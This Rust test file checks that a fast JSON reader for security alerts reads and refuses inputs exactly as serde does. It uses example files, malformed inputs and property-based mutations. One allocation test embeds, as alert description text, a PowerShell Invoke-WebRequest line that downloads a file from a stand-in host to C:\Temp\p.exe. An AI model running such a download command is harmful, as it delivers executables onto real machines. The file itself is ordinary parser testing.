//! The fast path held to serde's reading: whatever it accepts, serde accepts and reads the same
//! (compared through `Debug`, which shows every field), and it does not give up on the alerts
//! the API really sends.

use proptest::prelude::*;
use serde_json::value::RawValue;

use super::{alert_document, alert_prefix};
use crate::alert::Alert;

/// Every alert of the examples (pages, arrays, NDJSON lines, single alerts) as its own text,
/// and the Graph alerts of the mapping tests.
fn example_alerts() -> Vec<String> {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/examples/alerts");
    let mut alerts = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let Ok(text) = std::fs::read_to_string(&path) else {
            continue;
        };
        let mut push_document = |doc: &str| {
            if let Ok(page) = serde_json::from_str::<Page>(doc) {
                alerts.extend(page.value.iter().map(|a| a.get().to_owned()));
            } else if let Ok(array) = serde_json::from_str::<Vec<&RawValue>>(doc) {
                alerts.extend(array.iter().map(|a| a.get().to_owned()));
            } else {
                alerts.push(doc.to_owned());
            }
        };
        match path.extension().and_then(|e| e.to_str()) {
            Some("ndjson") => text.lines().for_each(&mut push_document),
            Some("json") => push_document(&text),
            _ => {}
        }
    }
    alerts.push(crate::mapping::graph_tests::FROM_GRAPH.to_owned());
    alerts.push(crate::mapping::graph_tests::FROM_MDE.to_owned());
    alerts
}

#[derive(serde::Deserialize)]
struct Page<'a> {
    #[serde(borrow)]
    value: Vec<&'a RawValue>,
}

/// The fast reading of `text`, checked against serde's: `Some` (it read it) only when serde
/// reads the same. Also checks the prefix reader against serde's stream reader.
fn same_as_serde(text: &str) -> Option<()> {
    let serde = serde_json::from_str::<Alert>(text);
    let fast = alert_document(text);
    if let Some(fast) = &fast {
        let serde = serde
            .as_ref()
            .unwrap_or_else(|e| panic!("the fast path read what serde refuses ({e}): {text:?}"));
        assert_eq!(format!("{fast:?}"), format!("{serde:?}"), "{text:?}");
    }
    if let Some((fast, end)) = alert_prefix(text) {
        let mut stream = serde_json::Deserializer::from_str(text).into_iter::<Alert>();
        let serde = stream.next().expect("a value").unwrap_or_else(|e| {
            panic!("the fast path read a prefix serde refuses ({e}): {text:?}")
        });
        assert_eq!(format!("{fast:?}"), format!("{serde:?}"), "{text:?}");
        assert_eq!(end, stream.byte_offset(), "{text:?}");
    }
    fast.map(drop)
}

#[test]
fn every_example_alert_reads_as_serde_reads_it() {
    let alerts = example_alerts();
    assert!(alerts.len() > 30, "{} example alerts", alerts.len());
    for text in &alerts {
        same_as_serde(text);
    }
}

#[test]
fn the_fast_path_gives_up_on_no_well_formed_example_alert() {
    // Escapes, numbers as ids, nulls, Graph's nesting, unknown members: all read here, not left
    // to serde. Only an example that is not an alert (malformed on purpose) is given up on.
    for text in example_alerts() {
        let Ok(alert) = serde_json::from_str::<Alert>(&text) else {
            continue;
        };
        if alert.is_page() {
            continue;
        }
        assert!(same_as_serde(&text).is_some(), "given up: {text}");
    }
}

#[test]
fn what_serde_refuses_the_fast_path_refuses() {
    for text in [
        r#"{"id":"a","id":"b"}"#,
        r#"{"id":"a","id":null}"#,
        r#"{"lastUpdateTime":"2026-11-22T10:15:59Z","lastUpdateDateTime":"2026-11-22T10:15:59Z"}"#,
        r#"{"evidence":[{"sha1":"a","sha1":"b"}]}"#,
        r#"{"evidence":[{"aadUserId":"a","azureAdUserId":"b"}]}"#,
        r#"{"relatedUser":{"userName":"a","userName":"b"}}"#,
        r#"{"id":"a\u0001"}"#.replace("\\u0001", "\u{1}").as_str(),
        r#"{"id":"\ud800"}"#,
        r#"{"id":"\udc00x"}"#,
        r#"{"id":"\ud800\u0041"}"#,
        r#"{"id":"\x"}"#,
        r#"{"id":01}"#,
        r#"{"id":1.}"#,
        r#"{"id":1x}"#,
        r#"{"id":nul}"#,
        r#"{"id":[]}"#,
        r#"{"id":{}}"#,
        r#"{"lastUpdateTime":"yesterday"}"#,
        r#"{"lastUpdateTime":5}"#,
        r#"{"mitreTechniques":[["T1"]]}"#,
        r#"{"comments":[null]}"#,
        r#"{"evidence":[1]}"#,
        r#"{"id":"a",}"#,
        r#"{"id":"a"} x"#,
        r#"{"unknown":[1,2,}"#,
        r#"{"unknown":"\q"}"#,
        r#"{"unknown":"\u12"}"#,
        "{\"unknown\":\"a\u{1f}\"}",
        r#"{"unknown":01}"#,
        r#"{"unknown":1.}"#,
        r#"{"unknown":-}"#,
        r#"{"unknown":1e}"#,
        r#"{"unknown":1e+}"#,
        r#"{"unknown":.5}"#,
        r#"{"unknown":tru}"#,
        r#"{"unknown":{"a" 1}}"#,
        r#"{"unknown":{1:2}}"#,
        r#"{"unknown":[1 2]}"#,
        r#"{"unknown":{"a":1,}}"#,
        r#"["forged-id", 123]"#,
        r#"{"id":"a""#,
    ] {
        assert!(
            serde_json::from_str::<Alert>(text).is_err(),
            "serde reads {text}"
        );
        assert!(alert_document(text).is_none(), "the fast path reads {text}");
    }
}

#[test]
fn escapes_numbers_and_booleans_read_as_serde_reads_them() {
    for text in [
        r#"{"id":"\u00e9\ud83d\ude00\"\\\/\b\f\n\r\t","title":"a\u0000b"}"#,
        r#"{"incidentId":0,"investigationId":18446744073709551,"id":true,"title":false}"#,
        r#"{"relatedUser":"CONTOSO\\jdoe","mitreTechniques":"T1059"}"#,
        r#"{"relatedUser":{"userName":"jdoe","x":[{"y":null}]},"mitreTechniques":[null,"T1",7]}"#,
        " \n{ \"id\" : \"a\" , \"comments\" : [ { \"createdByDisplayName\" : \"x\" } ] } \t",
        r#"{"evidence":null,"comments":null,"relatedUser":null,"mitreTechniques":null}"#,
        r##"{"evidence":[{"@odata.type":"#microsoft.graph.security.fileEvidence","fileDetails":null}]}"##,
        r#"{"unknown":[-0.5e+10,0,1E-3,{"a\"b":[true,false,null,{}]},"\u00e9\\",[]]}"#,
        &format!(r#"{{"unknown":{}1{}}}"#, "[".repeat(60), "]".repeat(60)),
        "{}",
    ] {
        assert!(same_as_serde(text).is_some(), "given up: {text}");
    }
}

#[test]
fn a_value_nested_deeper_than_the_fast_path_recurses_is_left_to_serde() {
    // The fast path recurses, so it bounds how deep it goes; serde skips iteratively.
    let deep = format!(
        r#"{{"id":"a","unknown":{}1{}}}"#,
        "[".repeat(200),
        "]".repeat(200)
    );
    assert!(alert_document(&deep).is_none());
    assert_eq!(Alert::from_json(&deep).unwrap().id(), Some("a"));
}

#[test]
fn a_page_or_a_value_member_is_left_to_serde() {
    // `value` decides whether an object is a page; serde's reading of it is the one the
    // readers act on.
    assert!(alert_document(r#"{"value":[{"id":"a"}]}"#).is_none());
    assert!(alert_document(r#"{"id":"a","value":5}"#).is_none());
}

/// The mutations a hostile or broken counterpart makes: bytes cut, replaced, inserted.
fn mutated(seed: &str, at: usize, op: u8, pick: usize) -> String {
    const BYTES: &[u8] = b"\"\\{}[],:0-.eEnt \x01\x7f";
    const SNIPPETS: &[&str] = &[
        r#""id":"dup","#,
        r#""lastUpdateDateTime":"2026-11-22T10:15:59Z","#,
        r#""x":"#,
        r#"\u00e9"#,
        r#"\ud800"#,
        r#"\udfff\ud800"#,
        "1.5",
        "01",
        "-1",
        "null",
        "99999999999999999999",
        r#""value":[],"#,
        "[",
        "}",
    ];
    let mut bytes = seed.as_bytes().to_vec();
    let at = at % (bytes.len() + 1);
    match op % 3 {
        0 => bytes.truncate(at),
        1 if at < bytes.len() => bytes[at] = BYTES[pick % BYTES.len()],
        _ => {
            let snippet = SNIPPETS[pick % SNIPPETS.len()].as_bytes();
            bytes.splice(at..at, snippet.iter().copied());
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3000))]

    #[test]
    fn a_mutated_alert_is_read_as_serde_reads_it_or_left_to_serde(
        which in any::<prop::sample::Index>(),
        edits in prop::collection::vec((any::<usize>(), any::<u8>(), any::<usize>()), 1..4),
    ) {
        static ALERTS: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
        let alerts = ALERTS.get_or_init(example_alerts);
        let mut text = which.get(alerts).clone();
        for (at, op, pick) in edits {
            text = mutated(&text, at, op, pick);
        }
        same_as_serde(&text);
    }
}

#[test]
fn an_escaped_string_is_allocated_once_at_its_length_not_grown_with_realloc() {
    // Growing a decoded string in place was a `realloc` per long escaped string: glibc serves
    // those under its arena lock, and the forwarder's threads reading pages at once queued on
    // it (7x the context switches, a 20 % slower replay). Decoded in a scratch buffer and copied
    // out, each is one allocation of its exact size.
    let long = r#"powershell.exe -c \"Invoke-WebRequest -Uri 'http://x.example/a?b=c' -OutFile C:\\Temp\\p.exe\"; \u00e9"#.repeat(8);
    let text = format!(r#"{{"id":"a","description":"{long}","title":"short \n one"}}"#);
    let alert = alert_document(&text).expect("read by the fast path");
    for field in [&alert.description, &alert.title] {
        let Some(crate::alert::Str(std::borrow::Cow::Owned(s))) = field else {
            panic!("an escaped string is owned: {field:?}");
        };
        assert_eq!(s.capacity(), s.len(), "{s:?}");
    }
}

/// An alert pretty-printed with every kind of JSON whitespace reads as serde reads it; one with
/// a form feed or a vertical tab between members (not JSON whitespace) is refused by both.
#[test]
fn whitespace_of_every_kind_between_members_reads_as_serde_reads_it() {
    let text = "{\r\n\t\"id\" :\t\"a\" ,\n        \"evidence\"\t:\r[ {\n\t\t\"sha1\":  \"x\"\r\n } ]  ,\"title\":\n\"t\"   \n}";
    assert!(alert_document(text).is_some(), "{text}");
    same_as_serde(text).expect("the fast path reads it");
    for not_ws in ["\u{b}", "\u{c}", "\u{1}"] {
        let text = format!("{{\"id\":\"a\",  \n {not_ws}\"title\":\"t\"}}");
        assert!(serde_json::from_str::<Alert>(&text).is_err());
        assert!(alert_document(&text).is_none(), "{text:?}");
    }
}

/// The members of `value`'s objects, at every depth, in reverse order.
fn reversed(value: &serde_json::Value) -> serde_json::Value {
    match value {
        serde_json::Value::Object(members) => members
            .iter()
            .rev()
            .map(|(name, v)| (name.clone(), reversed(v)))
            .collect::<serde_json::Map<_, _>>()
            .into(),
        serde_json::Value::Array(items) => items.iter().map(reversed).collect(),
        other => other.clone(),
    }
}

/// Members are looked for first in the order the API writes them; an alert in any other order,
/// a name that only begins with the one guessed, or a member named twice reads as serde reads
/// it (or is refused by both).
#[test]
fn members_out_of_the_guessed_order_read_as_serde_reads_them() {
    let mut read = 0;
    for text in example_alerts() {
        let Ok(value) = serde_json::from_str::<serde_json::Value>(&text) else {
            continue;
        };
        read += usize::from(same_as_serde(&reversed(&value).to_string()).is_some());
    }
    assert!(
        read > 30,
        "{read} reversed example alerts read by the fast path"
    );
    let first = r#"{"idx":"a","id":"b","incidentIdentifier":"c","incidentId":"d"}"#;
    same_as_serde(first).expect("the fast path reads it");
    assert_eq!(alert_document(first).unwrap().id(), Some("b"));
    for text in [
        r#"{"id":"a","incidentId":"1","id":"b"}"#,
        r#"{"id":"a","incidentId":"1","incidentId":"2"}"#,
        r#"{"entityType":"x","evidence":[{"entityType":"File","entityType":"File"}]}"#,
    ] {
        assert!(
            serde_json::from_str::<Alert>(text).is_err(),
            "serde reads {text}"
        );
        assert!(alert_document(text).is_none(), "the fast path reads {text}");
    }
    for cut in [
        "{\"id\":\"a\",\"incidentI",
        "{\"id\":\"a\",\"incidentId",
        "{\"i",
    ] {
        assert!(alert_document(cut).is_none(), "{cut}");
        assert!(alert_prefix(cut).is_none(), "{cut}");
    }
}

/// One reader goes through a page's alerts: the member order it learns from one alert (here
/// the reverse of the API's) is only a guess for the next, which reads as serde reads it
/// whatever its order.
#[test]
fn a_page_of_alerts_in_changing_orders_reads_as_serde_reads_it() {
    // The example alerts the fast path reads on their own.
    let alerts: Vec<serde_json::Value> = example_alerts()
        .iter()
        .filter(|text| alert_document(text).is_some())
        .map(|text| serde_json::from_str(text).unwrap())
        .collect();
    assert!(alerts.len() > 30, "{} example alerts", alerts.len());
    let mut texts = Vec::new();
    for (i, alert) in alerts.iter().enumerate() {
        texts.push(alert.to_string());
        texts.push(reversed(alert).to_string());
        if i % 3 == 0 {
            texts.push(reversed(alert).to_string());
        }
    }
    let page = format!("[{}]", texts.join(","));
    let mut cursor = super::Cursor::new(&page);
    let mut read = 0;
    let walked = cursor.elements(|c| {
        let start = c.pos();
        let text = texts[read].as_str();
        read += 1;
        let fast = c.alert()?;
        let serde: Alert = serde_json::from_str(text).expect("serde reads it");
        assert_eq!(format!("{fast:?}"), format!("{serde:?}"), "{text}");
        assert_eq!(&page[start..c.pos()], text);
        Some(())
    });
    assert!(
        walked.is_some(),
        "gave up at alert {read}: {}",
        texts[read - 1]
    );
    assert_eq!(read, texts.len());
}
